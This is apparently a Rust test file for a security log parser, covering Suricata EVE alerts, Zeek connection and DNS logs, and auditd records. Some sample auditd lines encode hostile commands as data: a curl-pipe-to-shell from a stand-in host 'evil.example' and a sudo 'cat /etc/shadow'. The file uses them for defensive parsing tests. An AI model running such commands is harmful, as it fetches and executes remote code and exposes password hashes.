//! Network-sensor and audit formats: Suricata EVE, Zeek JSON and auditd (split from
//! `text_formats`, which holds the shared helpers, syslog, CEF and the property tests).

use serde_json::json;
use vigil_event::Raw;
use vigil_parse::{Format, Origin, auditd, eve, parse_line, zeek};

use super::text_formats::{assert_error, categories, origin, s, services, ts};
// ---------------------------------------------------------------------------------------------------- EVE

pub(super) const EVE_ALERT: &str = r#"{"timestamp":"2024-01-02T03:04:05.123456+0000","flow_id":1234567890123456,"in_iface":"eth0","event_type":"alert","src_ip":"10.0.0.5","src_port":51515,"dest_ip":"198.51.100.7","dest_port":80,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2024897,"rev":3,"signature":"ET USER_AGENTS Go HTTP Client User-Agent","category":"Misc activity","severity":3},"http":{"hostname":"198.51.100.7","url":"/x","http_user_agent":"Go-http-client/1.1","http_method":"GET","status":200}}"#;

#[test]
fn eve_alert() {
    let e = eve::parse(EVE_ALERT.as_bytes(), &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.123456Z")));
    assert_eq!(e.logsource.product.as_deref(), Some("suricata"));
    assert_eq!(services(&e), ["alert"]);
    assert!(categories(&e).is_empty());
    assert_eq!(e.fields.get("flow_id"), Some(&json!(1234567890123456_u64)));
    assert_eq!(s(&e, "src_ip"), Some("10.0.0.5"));
    assert_eq!(e.fields.get("alert.signature"), None, "not flattened");
    assert_eq!(
        e.fields.lookup("alert.signature").as_deref(),
        Some(&json!("ET USER_AGENTS Go HTTP Client User-Agent"))
    );
    assert_eq!(e.fields.lookup("alert.signature_id").as_deref(), Some(&json!(2024897)));
    assert_eq!(
        e.fields.lookup("http.http_user_agent").as_deref(),
        Some(&json!("Go-http-client/1.1"))
    );
    assert_eq!(
        e.raw,
        Raw::JsonText(EVE_ALERT.into()),
        "JSON text: keywords search values, not keys"
    );
}

#[test]
fn eve_dns_and_http() {
    let dns = br#"{"timestamp":"2024-01-02T03:04:05.000000+0100","flow_id":42,"event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.53","proto":"UDP","dns":{"type":"query","id":4711,"rrname":"evil.example.com","rrtype":"A","tx_id":0}}"#;
    let e = eve::parse(dns, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T02:04:05Z")));
    assert_eq!(services(&e), ["dns"]);
    assert_eq!(categories(&e), ["dns"]);
    assert_eq!(
        e.fields.lookup("dns.rrname").as_deref(),
        Some(&json!("evil.example.com"))
    );

    let http = br#"{"timestamp":"2024-01-02T03:04:05.5+0000","flow_id":7,"event_type":"http","http":{"hostname":"example.com","url":"/wp-login.php","http_method":"POST","status":302,"length":0}}"#;
    let e = eve::parse(http, &origin(), 0).expect("parses");
    assert_eq!(services(&e), ["http"]);
    assert!(categories(&e).is_empty());
    assert_eq!(e.fields.lookup("http.url").as_deref(), Some(&json!("/wp-login.php")));

    let other = br#"{"timestamp":"not a time","event_type":"quic"}"#;
    let e = eve::parse(other, &origin(), 0).expect("parses");
    assert_eq!(e.time, None);
    assert!(services(&e).is_empty());
}

#[test]
fn eve_errors() {
    assert_error(eve::parse(b"[1,2]", &origin(), 10), "not_an_object", 10);
    assert_error(eve::parse(b"\"text\"", &origin(), 10), "not_an_object", 10);
    assert_error(eve::parse(b"{\"event_type\":", &origin(), 11), "invalid_json", 11);
    assert_error(eve::parse(b"{\"a\":\"\xff\"}", &origin(), 12), "not_utf8", 12);
}

#[test]
fn eve_end_to_end() {
    let e = parse_line(Format::SuricataEve, EVE_ALERT.as_bytes(), &origin(), 3).expect("parses");
    assert_eq!(services(&e), ["alert"]);
    assert_error(
        parse_line(Format::SuricataEve, b"null", &origin(), 4),
        "not_an_object",
        4,
    );
}

// ---------------------------------------------------------------------------------------------------- Zeek

pub(super) const ZEEK_CONN: &str = r#"{"ts":1704164645.5,"uid":"CAbc1234567890xyz","id.orig_h":"10.0.0.5","id.orig_p":51000,"id.resp_h":"93.184.216.34","id.resp_p":443,"proto":"tcp","service":"ssl","duration":1.5,"orig_bytes":100,"resp_bytes":2000,"conn_state":"SF","local_orig":true,"missed_bytes":0,"history":"ShADadFf","orig_pkts":10,"resp_pkts":12}"#;

#[test]
fn zeek_conn_from_file_name() {
    let origin = Origin::file("file", "/opt/zeek/logs/current/conn.log");
    let e = zeek::parse(ZEEK_CONN.as_bytes(), &origin, 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.5Z")));
    assert_eq!(e.logsource.product.as_deref(), Some("zeek"));
    assert_eq!(services(&e), ["conn"]);
    assert!(categories(&e).is_empty());
    assert_eq!(s(&e, "id.orig_h"), Some("10.0.0.5"), "flat key with a dot");
    assert_eq!(e.fields.get("id.resp_p"), Some(&json!(443)));
    assert_eq!(e.fields.get("id"), None);
    assert_eq!(s(&e, "conn_state"), Some("SF"));
}

#[test]
fn zeek_dns_path_member_wins_and_iso_ts() {
    let line = br#"{"_path":"dns","ts":"2024-01-02T03:04:05.123456Z","uid":"Cx1","id.orig_h":"10.0.0.5","id.orig_p":5353,"id.resp_h":"10.0.0.53","id.resp_p":53,"proto":"udp","query":"evil.example.com","qtype_name":"A","rcode_name":"NOERROR","answers":["203.0.113.66"],"TTLs":[300.0]}"#;
    let origin = Origin::file("file", "/data/conn.log");
    let e = zeek::parse(line, &origin, 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.123456Z")));
    assert_eq!(services(&e), ["dns"]);
    assert_eq!(categories(&e), ["dns"]);
    assert_eq!(e.fields.get("answers"), Some(&json!(["203.0.113.66"])));
    assert_eq!(s(&e, "query"), Some("evil.example.com"));
}

#[test]
fn zeek_unknown_log_type_and_no_path() {
    let e = zeek::parse(br#"{"ts":1704164645,"note":"x"}"#, &Origin::default(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
    assert_eq!(e.logsource.product.as_deref(), Some("zeek"));
    assert!(services(&e).is_empty());
    let e = zeek::parse(br#"{"_path":"capture_loss","ts":1}"#, &origin(), 0).expect("parses");
    assert!(services(&e).is_empty());
}

#[test]
fn zeek_service_from_rotated_and_json_names() {
    assert_eq!(zeek::service_from_path("dns.2024-01-02-00-00-00.log"), Some("dns"));
    assert_eq!(zeek::service_from_path("x509.json"), Some("x509"));
    assert_eq!(zeek::service_from_path("dce_rpc.log"), Some("dce_rpc"));
    assert_eq!(zeek::service_from_path("dns.log.gz"), None);
}

#[test]
fn zeek_errors_and_end_to_end() {
    assert_error(zeek::parse(b"{oops", &origin(), 20), "invalid_json", 20);
    assert_error(zeek::parse(b"42", &origin(), 21), "not_an_object", 21);
    let origin = Origin::file("file", "http.log");
    let e = parse_line(Format::Zeek, br#"{"ts":1.0,"method":"GET"}"#, &origin, 0).expect("parses");
    assert_eq!(services(&e), ["http"]);
}

// ---------------------------------------------------------------------------------------------------- auditd

#[test]
fn auditd_execve_with_hex_argument() {
    let line = br#"type=EXECVE msg=audit(1704164645.123:456): argc=3 a0="ls" a1=2D6C61 a2="/tmp""#;
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.123Z")));
    assert_eq!(s(&e, "type"), Some("EXECVE"));
    assert_eq!(s(&e, "audit_serial"), Some("456"));
    assert_eq!(s(&e, "argc"), Some("3"));
    assert_eq!(s(&e, "a0"), Some("ls"));
    assert_eq!(s(&e, "a1"), Some("-la"));
    assert_eq!(s(&e, "a2"), Some("/tmp"));
    assert_eq!(e.fields.get("node"), None);
    assert_eq!(e.fields.get("msg"), None);
    assert_eq!(e.logsource.product.as_deref(), Some("linux"));
    assert_eq!(services(&e), ["auditd"]);
}

#[test]
fn auditd_syscall_with_node_and_enriched_fields() {
    let line = b"node=web01 type=SYSCALL msg=audit(1704164645.000:457): arch=c000003e syscall=59 success=yes exit=0 a0=55d0e0a8c2a0 a1=55d0e0a8c4e0 a2=55d0e0a8c528 a3=8 items=2 ppid=1000 pid=1001 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"cat\" exe=\"/usr/bin/cat\" subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 key=\"etc_shadow\"\x1dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\" GID=\"root\"";
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
    assert_eq!(
        e.fields.keys().take(3).collect::<Vec<_>>(),
        ["node", "type", "audit_serial"]
    );
    assert_eq!(s(&e, "node"), Some("web01"));
    assert_eq!(s(&e, "syscall"), Some("59"));
    assert_eq!(
        s(&e, "a0"),
        Some("55d0e0a8c2a0"),
        "SYSCALL arguments are registers, not hex text"
    );
    assert_eq!(s(&e, "comm"), Some("cat"));
    assert_eq!(s(&e, "exe"), Some("/usr/bin/cat"));
    assert_eq!(s(&e, "key"), Some("etc_shadow"));
    assert_eq!(
        s(&e, "subj"),
        Some("unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023")
    );
    assert_eq!(s(&e, "SYSCALL"), Some("execve"));
    assert_eq!(s(&e, "AUID"), Some("alice"));
    assert_eq!(s(&e, "UID"), Some("root"));
    assert_eq!(e.fields.get("audit_text"), None);
}

#[test]
fn auditd_user_login_nested_msg() {
    let line = b"type=USER_LOGIN msg=audit(1704164645.500:789): pid=2345 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=sshd res=failed'\x1dUID=\"root\" AUID=\"unset\"";
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.5Z")));
    assert_eq!(s(&e, "type"), Some("USER_LOGIN"));
    assert_eq!(s(&e, "audit_serial"), Some("789"));
    assert_eq!(s(&e, "pid"), Some("2345"));
    assert_eq!(s(&e, "op"), Some("login"));
    assert_eq!(s(&e, "acct"), Some("(invalid user)"));
    assert_eq!(s(&e, "exe"), Some("/usr/sbin/sshd"));
    assert_eq!(s(&e, "hostname"), Some("?"));
    assert_eq!(s(&e, "addr"), Some("203.0.113.9"));
    assert_eq!(s(&e, "res"), Some("failed"));
    assert_eq!(s(&e, "AUID"), Some("unset"));
    assert_eq!(e.fields.get("msg"), None);
}

#[test]
fn auditd_proctitle_cwd_and_path() {
    let line = b"type=PROCTITLE msg=audit(1704164645.123:456): proctitle=2F62696E2F62617368002D63006375726C20687474703A2F2F6576696C2E6578616D706C652F78207C207368";
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "proctitle"), Some("/bin/bash -c curl http://evil.example/x | sh"));
    let e = auditd::parse(
        b"type=CWD msg=audit(1704164645.123:456): cwd=2F746D702F6D7920646972",
        &origin(),
        0,
    )
    .expect("parses");
    assert_eq!(s(&e, "cwd"), Some("/tmp/my dir"));
    let line = br#"type=PATH msg=audit(1704164645.123:456): item=0 name="/etc/shadow" inode=1234 dev=08:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"#;
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "name"), Some("/etc/shadow"));
    assert_eq!(s(&e, "dev"), Some("08:01"));
    assert_eq!(s(&e, "mode"), Some("0100640"), "not a hex-encoded field");
}

#[test]
fn auditd_long_execve_argument_chunks_are_joined() {
    let line = br#"type=EXECVE msg=audit(1704164645.123:456): argc=2 a0="python3" a1_len=10 a1[0]=68656C6C6F a1[1]=776F726C64"#;
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "a1[0]"), Some("hello"));
    assert_eq!(s(&e, "a1[1]"), Some("world"));
    assert_eq!(s(&e, "a1"), Some("helloworld"));
    assert_eq!(s(&e, "a1_len"), Some("10"));
}

#[test]
fn auditd_avc_words_are_kept() {
    let line = br#"type=AVC msg=audit(1704164645.123:9): avc:  denied  { read } for  pid=1234 comm="cat" name="shadow" dev="sda1" ino=42 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0"#;
    let e = auditd::parse(line, &origin(), 0).expect("parses");
    assert_eq!(s(&e, "audit_text"), Some("avc: denied { read } for"));
    assert_eq!(s(&e, "tclass"), Some("file"));
}

#[test]
fn auditd_errors() {
    assert_error(
        auditd::parse(b"msg=audit(1704164645.123:1): a=b", &origin(), 30),
        "invalid_auditd",
        30,
    );
    assert_error(
        auditd::parse(b"type=SYSCALL arch=c000003e", &origin(), 31),
        "invalid_auditd",
        31,
    );
    assert_error(
        auditd::parse(b"type=SYSCALL msg=audit(yesterday:1): x=1", &origin(), 32),
        "invalid_auditd",
        32,
    );
    assert_error(
        auditd::parse(b"type=SYSCALL msg=audit(1.1:1): comm=\"\xff\"", &origin(), 33),
        "not_utf8",
        33,
    );
}

#[test]
fn auditd_end_to_end() {
    let line = br#"type=USER_CMD msg=audit(1704164645.123:99): pid=1 uid=1000 auid=1000 ses=1 msg='cwd="/home/alice" cmd=636174202F6574632F736861646F77 exe="/usr/bin/sudo" terminal=pts/0 res=success'"#;
    let e = parse_line(Format::Auditd, line, &origin(), 6).expect("parses");
    assert_eq!(s(&e, "cmd"), Some("cat /etc/shadow"));
    assert_eq!(s(&e, "cwd"), Some("/home/alice"));
    assert_error(parse_line(Format::Auditd, b"hello", &origin(), 7), "invalid_auditd", 7);
}
